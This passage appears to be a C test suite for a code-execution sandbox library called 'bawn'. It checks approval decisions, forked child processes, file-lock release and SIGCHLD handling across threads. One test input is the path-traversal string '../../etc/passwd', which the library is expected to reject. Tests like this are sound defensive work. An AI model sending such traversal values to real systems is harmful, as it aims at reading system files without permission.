	ok(refused(CALL(bawn_approvals_decide, own, id, 1, NULL, 0), BAWN_ERROR_REASON_MISSING) && refused(CALL(bawn_approvals_decide, own, id, 1, " ", 0), BAWN_ERROR_REASON_MISSING) &&
	   refused(CALL(bawn_approvals_decide, own, id, 1, reason, 0), BAWN_ERROR_REASON_TOO_LONG), "no reason, a blank one, one too long");
	static const char *const unknown[] = { "", "no-such", "../../etc/passwd", "01M7J3Z1NKP2DMTWH6N3DRH6XC" };
	for (size_t i = 0; i < LEN(unknown); i++)
		ok(refused(CALL(bawn_approvals_decide, own, unknown[i], 1, "why", 0), BAWN_ERROR_APPROVAL_UNKNOWN), "an id nobody knows");
	ok(CALL(bawn_approvals_decide, own, id, 1, "seen", 0) == 0 && has(0, id), "where policy takes it, it is approved");
	req.approval = id;
	ok(run(own, &req) == 0 && has(0, "\"stdout\":\"ok\\n\""), "and runs");
	ok(run(own, &req) == 0 && has(0, "\"type\":\"approval_used\""), "once");
	req.approval = NULL;
	ok(run(own, &req) == 0 && strcmp(bawn_result_status(res), "needs_approval") == 0, "the next is held anew");
	snprintf(id, sizeof id, "%s", member("approval_id"));
	ok(CALL(bawn_approvals_decide, shipped, id, 0, "no", 0) == 0, "no needs no assurance");
	req.approval = id;
	ok(run(own, &req) == 0 && has(0, "\"type\":\"approval_denied\""), "and is no");
	reset();
	ok(refused(bawn_approvals_list(NULL, &res, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_approvals_list(own, NULL, &err), BAWN_ERROR_INVALID_REQUEST) &&
	   refused(bawn_approvals_decide(NULL, id, 1, "why", 0, &res, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_approvals_decide(own, NULL, 1, "why", 0, &res, &err), BAWN_ERROR_INVALID_REQUEST) &&
	   refused(bawn_approvals_decide(own, id, 1, "why", 0, NULL, &err), BAWN_ERROR_INVALID_REQUEST), "approvals: NULL in each place");
}

/* --- a host with its own ideas about children ----------------------------------------------------------- */

/* The inode of the slot that this process has open, by what the kernel says of its descriptors; 0: none. */
static unsigned long own_slot(void)
{
	for (int fd = 3; fd < 256; fd++) {
		char path[64], name[256];
		struct stat st;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, name, sizeof name - 1);
		name[n > 0 ? n : 0] = '\0';
		if (strstr(name, "/bawn/slots/") != NULL && fstat(fd, &st) == 0)
			return st.st_ino;
	}
	return 0;
}

/* Whether this process still has the lock it took; a child that it forked has no lines of its own. */
static int holds(unsigned long inode)
{
	char line[200];
	int n = 0, pid;
	unsigned long ino;
	FILE *f = fopen("/proc/locks", "r");
	while (f != NULL && fgets(line, sizeof line, f) != NULL)
		n += sscanf(line, "%*d: FLOCK %*s %*s %d %*[^:]:%*[^:]:%lu", &pid, &ino) == 2 && pid == getpid() && ino == inode;
	if (f != NULL)
		fclose(f);
	return n;
}

/* The kernel's list moves under whoever reads it while others lock and unlock: one look may miss a line, or see it twice. */
static int seen_held(unsigned long inode, int want)
{
	int as_wanted = 0;
	for (int i = 0; !(as_wanted = holds(inode) == want) && i < 40; i++)
		nanosleep(&(struct timespec){ .tv_nsec = 5000000 }, NULL);
	return as_wanted;
}

static pid_t forked;
static unsigned long slot;
static int held;
/* Forks in the middle of a run: the child has every descriptor, and outlives the run. */
static void on_running(void *ctx, const struct bawn_event *e)
{
	(void)ctx;
	if (e->kind != BAWN_EVENT_STATE || strcmp(e->text, "running") != 0)
		return;
	slot = own_slot();
	held = seen_held(slot, 1);
	forked = fork();
	if (forked == 0) {
		sleep(60);
		_exit(0);
	}
}

static void forking(struct bawn *b)
{
	int st;
	struct bawn_request req = python("print(6*7)");
	req.on_event = on_running;
	ok(run(b, &req) == 0 && has(0, "\"stdout\":\"42\\n\"") && waitpid(forked, &st, WNOHANG) == 0, "a host that forks meanwhile does not wait for its child");
	ok(slot != 0 && held && seen_held(slot, 0), "and the child does not keep the run's place on the host");
	kill(forked, SIGKILL);
	waitpid(forked, &st, 0);
}

static volatile sig_atomic_t children;
static volatile int enough;
static void on_child(int sig) { (void)sig; children++; }

/* Reaps whatever it can get, as a host with a supervisor does. */
static void *reap_all(void *arg)
{
	(void)arg;
	while (!enough) {
		int st;
		struct timespec t = { 0, 200000 };
		if (waitpid(-1, &st, WNOHANG) <= 0)
			nanosleep(&t, NULL);
	}
	return NULL;
}

static void *runner(void *b)
{
	struct bawn_request req = python("print('t')");
	struct bawn_result *r = NULL;
	int good = 1;
	for (int i = 0; i < 2; i++) {
		good = good && bawn_assess_and_execute(b, &req, &r, NULL) == 0 && strcmp(bawn_result_status(r), "completed") == 0 && strstr(bawn_result_json(r), "\"stdout\":\"t\\n\"");
		bawn_result_free(r);
		r = NULL;
	}
	return good ? b : NULL;
}

static void *health(void *b)
{
	struct bawn_result *r = NULL;
	int good = 1;
	for (int i = 0; i < 3; i++) {
		good = good && bawn_get_security_status(b, &r, NULL) == 0 && strstr(bawn_result_json(r), "\"system_status\":\"operational\"");
		bawn_result_free(r);
		r = NULL;
	}
	return good ? b : NULL;
}

static int side_by_side(void *(*f)(void *), struct bawn *b)
{
	pthread_t t[4];
	void *saw;
	int good = 0;
	for (int i = 0; i < 4; i++)
		pthread_create(&t[i], NULL, f, b);
	for (int i = 0; i < 4; i++) {
		pthread_join(t[i], &saw);
		good += saw == b;
	}
	return good == 4;
}

static void threads(struct bawn *b)
{
	pthread_t thief;
	struct sigaction act = { .sa_handler = on_child }, was;  /* no SA_RESTART: calls are interrupted */
	sigaction(SIGCHLD, &act, NULL);
	ok(side_by_side(runner, b) && children > 0, "four threads at once, in a host with a SIGCHLD handler");
	pthread_create(&thief, NULL, reap_all, NULL);
	ok(side_by_side(runner, b), "and one that reaps every child it sees");
	ok(side_by_side(health, b), "the status finds nothing wrong with that");
	sigaction(SIGCHLD, NULL, &was);
	ok(was.sa_handler == on_child, "the handler is still the host's");
	signal(SIGCHLD, SIG_IGN);
	ok(side_by_side(runner, b), "a host that ignores SIGCHLD");
	enough = 1;
	pthread_join(thief, NULL);
	signal(SIGCHLD, SIG_DFL);
}

int main(int argc, char **argv)
{
	struct bawn *shipped, *own;
	if (argc != 4)
		return 2;
	struct bawn_options o = { .size = sizeof o, .libexec_dir = argv[1] };
	names();
	opening(argv[1]);
	if (bawn_open(&o, &shipped, &err) < 0)
		return ok(0, "open"), 1;
	o.config_dir = argv[2];
	if (bawn_open(&o, &own, &err) < 0)
		return ok(0, "open with a configuration"), 1;
	flow(shipped, own);
	bad_requests(own);
	stepping(shipped);
	stuck(argv[3]);
	forking(shipped);
	threads(shipped);
	approvals(shipped, own);
	telling(shipped);
	policies(own);
	reset();
	bawn_close(own);
	bawn_close(shipped);
	puts("end");
	return 0;
}
